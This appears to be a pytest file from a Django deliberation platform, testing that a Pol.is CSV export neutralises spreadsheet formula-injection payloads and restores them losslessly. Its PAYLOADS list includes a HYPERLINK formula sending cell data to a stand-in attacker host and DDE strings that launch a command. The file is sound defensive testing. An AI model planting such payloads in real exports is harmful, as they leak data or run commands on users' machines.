"""Formula payloads in a Pol.is export are neutralised; the round trip keeps the text (issue 12)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from django.core.management import call_command

from meedenken.sensemaking.opinion.polis_io import (
    neutralise_text,
    read_polis_export,
    restore_text,
)
from meedenken.statements.services import do_enable_deliberation, do_seed_statement
from tests.platform.deliberation_helpers import fresh_cache  # noqa: F401 (autouse)
from tests.platform.factories import make_consultation

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://aanvaller.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "'=al ontsmet",
]


def test_export_polis_neutralises_formulas_and_round_trips(tmp_path: Path) -> None:
    consultation = make_consultation("formules")
    do_enable_deliberation(consultation)
    for text in [*PAYLOADS, "Een gewone maatregel."]:
        do_seed_statement(consultation, text)
    call_command("export-polis", consultation.slug, str(tmp_path), verbosity=0)
    with (tmp_path / "comments.csv").open(newline="", encoding="utf-8") as handle:
        bodies = [row["comment-body"] for row in csv.DictReader(handle)]
    for body in bodies:
        # what a spreadsheet sees: never a cell that starts a formula
        assert not body.startswith(("=", "+", "-", "@", "\uff1d")), body
    assert "Een gewone maatregel." in bodies  # ordinary text unchanged
    assert sorted(c.body for c in read_polis_export(tmp_path).comments) == sorted(
        [*PAYLOADS, "Een gewone maatregel."]
    )


@pytest.mark.parametrize("text", [*PAYLOADS, "", "'", "''", "'x", "''=x", "gewoon"])
def test_neutralise_and_restore_are_inverse(text: str) -> None:
    assert restore_text(neutralise_text(text)) == text
